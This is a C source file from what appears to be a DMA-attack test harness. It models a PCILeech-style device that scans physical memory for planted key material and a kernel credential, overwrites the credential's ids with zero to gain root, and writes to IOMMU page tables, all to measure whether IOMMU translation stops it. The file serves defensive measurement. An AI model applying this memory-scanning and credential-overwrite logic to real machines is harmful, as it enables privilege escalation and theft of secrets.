/*
 * scan: the naive attacker (PCILeech). The device reads physical memory
 * from 0 up in 64 KiB blocks, as PCILeech reads, skipping a block that
 * does not answer; it looks for key material and for a credential (a
 * usage count of 1 and eight ids of 1000), then writes 0 over the ids.
 * Without translation it finds both; with translation the addresses it
 * uses are IOVAs that nothing maps, and every block faults.
 *
 * Then the IOMMU's own tables (iommu_tables.c): the device is given
 * where they are (the attacker's best case; a real one would look for
 * their format), reads each page and writes its own entry back as it
 * read it, which proves it could write anything there (and so map
 * anything) without breaking the machine the run measures.
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "attack/attack.h"
#include "drivers/rnic.h"
#include "kernel/machine.h"
#include "kernel/targets.h"

#define BLOCK (64u << 10)

static void search(const uint8_t *blk, size_t n, uint64_t base,
		   struct atk_found *f)
{
	const size_t ml = strlen(TARGET_SECRET_MAGIC);
	struct kcred want = { 1, 1000, 1000, 1000, 1000, 1000, 1000, 1000, 1000 };

	/* kmalloc objects are aligned to their class (64 bytes here): the
	 * attacker knows the allocator as well as the kernel does */
	for (size_t off = 0; off + sizeof(want) <= n; off += 64) {
		if (!f->secret && off % 4096 == 0 && off + ml <= n &&
		    !memcmp(blk + off, TARGET_SECRET_MAGIC, ml))
			f->secret = base + off;
		if (!f->cred && blk[off] == 1 &&
		    !memcmp(blk + off, &want, sizeof(want)))
			f->cred = base + off;
	}
}

static uint64_t ram_top(struct atk_ctx *c)
{
	const struct ram *ram = &c->m->ram;

	return ram->nr_ranges ? ram->ranges[ram->nr_ranges - 1].end : 0;
}

void atk_sweep(struct atk_ctx *c, atk_reader rd, struct atk_found *f,
	       uint64_t *blocks, uint64_t *answered)
{
	uint8_t *blk = malloc(BLOCK);
	uint64_t top = ram_top(c);
	size_t done;

	if (!blk)
		return;
	for (uint64_t a = 0; a < top && !(f->secret && f->cred); a += BLOCK) {
		rd(c, a, blk, BLOCK, &done);
		(*blocks)++;
		*answered += done != 0;
		search(blk, done, a, f);
	}
	free(blk);
}

/* Read each table page, write the device's entry back as it was; the
 * number of pages written. */
static size_t probe_tables(struct atk_ctx *c)
{
	struct atk_table t[ATK_MAX_TABLES];
	struct rnic_buf b;
	uint8_t page[4096];
	uint64_t iova = rnic_buffers(c->nic, &b, 1) == 1 ? b.dma : 0;
	size_t n = atk_iommu_tables(c, iova, t, ATK_MAX_TABLES), wrote = 0;

	if (!n)
		atk_did(c, "kernel: no IOMMU tables (no IOMMU in use); nothing to find, nothing needed");
	for (size_t i = 0; i < n; i++) {
		size_t got = 0, put = 0, off = (size_t)(t[i].entry - t[i].page);

		memset(page, 0, sizeof(page));
		atk_read(c, t[i].page, page, sizeof(page), &got);
		/* what it read back, or zeros when the read failed */
		atk_write(c, t[i].entry, page + off, t[i].entry_len, &put);
		wrote += put != 0;
		atk_did(c, "device: %s at phys 0x%llx: %s%s",
			t[i].what, (unsigned long long)t[i].page,
			got ? "read the page, " : "read faulted, ",
			put ? "wrote its entry (a write there maps anything)"
			    : "write faulted");
	}
	return wrote;
}

int attack_scan(struct atk_ctx *c)
{
	struct targets t;
	struct atk_found f = { 0, 0 };
	uint64_t blocks = 0, answered = 0;
	uint32_t zero[8] = { 0 };
	size_t tables;
	int ret = targets_create(c->m, TARGET_SECRET | TARGET_CRED, 6, &t);

	if (!ret)
		ret = rnic_open(c->nic, 1); /* so the device's tables exist */
	if (ret) {
		targets_destroy(&t);
		return ret;
	}
	atk_shadow_sync(c);
	atk_did(c, "kernel: secret page at phys 0x%llx, credential at phys 0x%llx (uid %u)",
		(unsigned long long)targets_phys(&t, t.secret),
		(unsigned long long)targets_phys(&t, t.cred), t.cred->uid);
	atk_sweep(c, atk_read, &f, &blocks, &answered);
	atk_did(c, "device: read %llu blocks of 64 KiB from 0, %llu answered",
		(unsigned long long)blocks, (unsigned long long)answered);
	if (f.secret)
		atk_did(c, "device: found the key material at 0x%llx",
			(unsigned long long)f.secret);
	if (f.cred) {
		atk_write(c, f.cred + 4, zero, sizeof(zero), NULL);
		atk_did(c, "device: found the credential at 0x%llx, wrote uid/gid 0",
			(unsigned long long)f.cred);
	}
	tables = probe_tables(c);
	if (targets_cred_is_root(&t))
		atk_verdict(c, "ATTACK SUCCEEDED: secret read, credential is root%s",
			    tables ? "; IOMMU tables writable" : "");
	else if (f.secret)
		atk_verdict(c, "LEAK: secret read");
	else
		atk_verdict(c, "blocked: nothing found, targets unchanged (%zu bytes changed)",
			    targets_secret_changed(&t) + targets_cred_changed(&t));
	targets_destroy(&t);
	return 0;
}
